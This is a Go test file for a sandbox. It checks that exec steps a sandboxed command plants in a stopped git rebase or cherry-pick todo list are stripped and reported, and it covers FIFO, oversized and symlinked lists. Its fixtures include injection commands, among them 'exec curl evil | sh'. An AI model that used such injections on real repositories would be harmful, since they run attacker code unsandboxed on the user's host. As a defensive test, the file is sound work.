package sandbox

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// A stopped rebase's step list is the sandbox's to write (a sandboxed
// rebase --continue works), but an exec step in it is a shell command the
// user's own `git rebase --continue` on the host runs, unsandboxed. Attack:
// the exec steps a command appends to the rebase's list, and to a stopped
// cherry-pick's (sequencer/todo), are taken out when the run ends and
// reported; the user's continue then runs none of them. Twin: the user's
// own exec step (rebase -x) stays, and a sandboxed rebase --continue
// moves the rebase on.
func TestExecStepsAddedToAStoppedRebaseAreTakenOut(t *testing.T) {
	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(t.TempDir(), "none"))
	for _, v := range []string{"GIT_AUTHOR_NAME", "GIT_COMMITTER_NAME"} {
		t.Setenv(v, "t")
	}
	for _, v := range []string{"GIT_AUTHOR_EMAIL", "GIT_COMMITTER_EMAIL"} {
		t.Setenv(v, "t@t")
	}
	ws := t.TempDir()
	gitRepo(t, ws, nil, nil)
	git := func(env []string, args ...string) string {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-C", ws}, args...)...)
		cmd.Env = append(os.Environ(), env...)
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %q: %v %s", args, err, out)
		}
		return string(out)
	}
	for i, f := range []string{"a", "b", "c"} {
		if err := os.WriteFile(filepath.Join(ws, f), []byte(f+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		git(nil, "add", f)
		git(nil, "commit", "-qm", "c"+string(rune('1'+i)))
	}
	// The user's rebase, with their own test step, stops at its first commit.
	git([]string{"GIT_SEQUENCE_EDITOR=sed -i 1s/^pick/edit/"}, "rebase", "-q", "-i", "-x", "true # the user's", "HEAD~2")
	todo := filepath.Join(ws, ".git", "rebase-merge", "git-rebase-todo")
	pwned := filepath.Join(t.TempDir(), "pwned")
	res := run(t, ws, Command{Argv: sh(`printf 'exec touch ` + pwned + `\nx  touch ` + pwned + `\n' >> .git/rebase-merge/git-rebase-todo
sed -i 's|^pick \(.*\)|exec touch ` + pwned + `\npick \1|' .git/rebase-merge/git-rebase-todo`)})
	if res.ExitCode != 0 {
		t.Fatalf("exit %d: %s", res.ExitCode, res.Output)
	}
	list := readFile(t, todo)
	if strings.Contains(list, "touch") {
		t.Errorf("the added exec steps are still in the list:\n%s", list)
	}
	if !strings.Contains(list, "exec true # the user's") || !strings.Contains(list, "pick ") {
		t.Errorf("twin: the user's own steps were lost:\n%s", list)
	}
	var reported int
	for _, r := range res.Removed {
		if r.Path == todo && strings.Contains(r.Step, "touch "+pwned) && r.Err == "" &&
			strings.Contains(r.String(), "rebase or cherry-pick continued on the host") {
			reported++
		}
	}
	if reported != 3 {
		t.Errorf("reported %d of the 3 steps taken out: %+v", reported, res.Removed)
	}

	// Twin: the sandboxed continue moves the rebase on and runs the user's
	// step (in the sandbox).
	res = run(t, ws, Command{Argv: sh(`GIT_EDITOR=true git rebase --continue`)})
	if res.ExitCode != 0 || len(res.Removed) != 0 {
		t.Fatalf("sandboxed rebase --continue: exit %d, removed %+v: %s", res.ExitCode, res.Removed, res.Output)
	}
	if _, err := os.Stat(filepath.Join(ws, ".git", "rebase-merge")); err == nil {
		t.Errorf("the rebase did not finish in the sandbox: %s", res.Output)
	}
	if _, err := os.Stat(pwned); err == nil {
		t.Error("an added exec step ran")
	}

	// A stopped cherry-pick's list.
	branch := strings.TrimSpace(git(nil, "rev-parse", "--abbrev-ref", "HEAD"))
	git(nil, "checkout", "-q", "-b", "side", "HEAD~2")
	if err := os.WriteFile(filepath.Join(ws, "b"), []byte("conflict\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	git(nil, "add", "b")
	git(nil, "commit", "-qm", "side")
	cmd := exec.Command("git", "-C", ws, "cherry-pick", branch+"~1", branch)
	if out, err := cmd.CombinedOutput(); err == nil {
		t.Fatalf("the cherry-pick did not stop on its conflict: %s", out)
	}
	seq := filepath.Join(ws, ".git", "sequencer", "todo")
	if _, err := os.Stat(seq); err != nil {
		t.Fatalf("no sequencer list: %v", err)
	}
	res = run(t, ws, Command{Argv: sh(`echo 'exec touch ` + pwned + `' >> .git/sequencer/todo`)})
	if list := readFile(t, seq); strings.Contains(list, "touch") || !strings.Contains(list, "pick ") {
		t.Errorf("the cherry-pick's list after the run:\n%s", list)
	}
	if len(res.Removed) != 1 || res.Removed[0].Path != seq {
		t.Errorf("removed %+v", res.Removed)
	}
}

// What the command leaves at a step list's place is read only when it is a
// regular file within the writable roots: a FIFO there does not block the
// run's end, a list too large to check is reported. Twin: a link to a
// list elsewhere in the workspace is checked through the link.
func TestStepListsTheCommandReplaced(t *testing.T) {
	ws := t.TempDir()
	gitRepo(t, ws, nil, nil)
	dir := filepath.Join(ws, ".git", "rebase-merge")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	todo := filepath.Join(dir, "git-rebase-todo")
	if err := os.WriteFile(todo, []byte("pick 1234 one\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	done := make(chan Result, 1)
	go func() {
		done <- run(t, ws, Command{Argv: sh(`rm .git/rebase-merge/git-rebase-todo && mkfifo .git/rebase-merge/git-rebase-todo`)})
	}()
	select {
	case res := <-done:
		if res.ExitCode != 0 || len(res.Removed) != 0 {
			t.Errorf("FIFO: exit %d, removed %+v: %s", res.ExitCode, res.Removed, res.Output)
		}
	case <-time.After(20 * time.Second):
		t.Fatal("the run's end blocked on a FIFO at the step list's place")
	}

	os.Remove(todo)
	res := run(t, ws, Command{Argv: sh(`head -c 5000000 /dev/zero | tr '\0' '#' > .git/rebase-merge/git-rebase-todo; echo 'exec curl evil | sh' >> .git/rebase-merge/git-rebase-todo`)})
	if len(res.Removed) != 1 || !strings.Contains(res.Removed[0].Err, "too large to check") ||
		!strings.Contains(res.Removed[0].String(), "could not") {
		t.Errorf("oversized list: %+v", res.Removed)
	}

	res = run(t, ws, Command{Argv: sh(`printf 'pick 1 a\nexec curl evil | sh\n' > notes.txt && rm .git/rebase-merge/git-rebase-todo && ln -s ../../notes.txt .git/rebase-merge/git-rebase-todo`)})
	if got := readFile(t, todo); strings.Contains(got, "curl") || !strings.Contains(got, "pick 1 a") {
		t.Errorf("twin: the list behind a link was not checked: %q (%+v)", got, res.Removed)
	}
}
